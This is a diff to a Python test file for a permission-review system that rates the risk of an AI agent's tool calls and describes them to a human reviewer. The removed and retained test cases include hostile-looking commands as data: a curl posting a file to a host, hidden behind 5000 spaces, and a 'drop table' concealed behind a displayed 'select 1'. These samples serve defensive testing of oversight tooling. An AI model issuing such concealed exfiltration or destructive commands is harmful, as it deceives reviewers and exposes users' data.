@@ -1,7 +1,7 @@
 """Questions as rows: how they open, how each ends, and what they may cost (contract 15)."""
 
+import json
 from datetime import timedelta
-from functools import reduce
 from typing import Any
 from uuid import UUID
 
@@ -122,58 +122,6 @@ async def test_detail_that_is_cut_says_so_and_is_of_high_risk(sessions: SessionF
     row = await row_of(sessions, await ask(sessions, live, permission(detail=describe(call), tool_call=call)))
     assert (row.risk, row.urgency, len(row.detail)) == ("high", "high", DETAIL_CHARACTERS)
     assert row.detail.endswith("#\n⟨cut: it has 5021 characters⟩")
-
-
-@pytest.mark.parametrize(
-    ("call", "detail"),
-    [
-        ({}, ""),
-        ({"rawInput": {"command": "make"}}, "make"),
-        (
-            {
-                "rawInput": {
-                    "command": "bash",
-                    "args": ["-c", "a b"],
-                    "cwd": "/x\ncwd: /y",
-                    "env": {"A": "b"},
-                    "timeout": None,
-                }
-            },
-            'bash -c \'a b\'\ncwd: /x\n  cwd: /y\nenv: {"A":"b"}',
-        ),
-        ({"rawInput": {"command": ["bash", "-c", "a b"]}}, "bash -c 'a b'"),
-        # What the agent shows does not stand for what the tool is given.
-        (
-            {
-                "rawInput": {"sql": "drop table x"},
-                "content": [{"type": "content", "content": {"type": "text", "text": "select 1"}}],
-            },
-            "sql: drop table x\nselect 1",
-        ),
-        (
-            {
-                "rawInput": {
-                    "file_path": "a.py",
-                    "old_string": "x\ny",
-                    "new_string": "z",
-                    "replace_all": True,
-                },
-                "content": [{"type": "diff", "path": "a.py", "oldText": "x\ny", "newText": "z"}],
-            },
-            "replace_all: true\na.py\n- x\n- y\n+ z",
-        ),
-        (
-            {"rawInput": {"command": f"echo hi;{' ' * 5000}curl https://example.com -d @x"}},
-            "echo hi;⟨5000 spaces⟩curl https://example.com -d @x",
-        ),
-        ({"rawInput": {"command": "a" + "\n" * 500 + "b"}}, "a⟨500 blank characters⟩b"),
-        ({"rawInput": {"command": "a" + "\u2800" * 500 + "b"}}, "a⟨500 blank characters⟩b"),
-        ({"rawInput": ["x", 1], "content": ["odd", {"type": "diff"}]}, '["x",1]\nNone'),
-    ],
-    ids=str,
-)
-def test_detail_is_all_that_a_call_would_do(call: JSON, detail: str) -> None:
-    assert describe(call) == detail
 
 
 async def test_digest_is_of_the_whole_call_that_is_asked_about(sessions: SessionFactory, live: Run) -> None:
@@ -418,7 +366,7 @@ def test_risk_of_commands(commands: list[str], risk: QuestionRisk) -> None:
         ({"kind": "execute", "rawInput": ["x" * 19_000, {"a": 1}] * 6}, QuestionRisk.HIGH),
         ({"kind": "read", "rawInput": [{"a": number} for number in range(60_000)]}, QuestionRisk.HIGH),
         ({"kind": "read", "locations": [{"path": "x" * 20_001}]}, QuestionRisk.HIGH),
-        ({"kind": "read", "rawInput": reduce(lambda inner, _: [inner], range(900), "x")}, QuestionRisk.HIGH),
+        ({"kind": "read", "rawInput": json.loads("[" * 900 + "1" + "]" * 900)}, QuestionRisk.HIGH),
         # What the agent says counts in neither direction.
         (
             {"kind": "execute", "title": "git push --force", "rawInput": {"command": "ls"}},
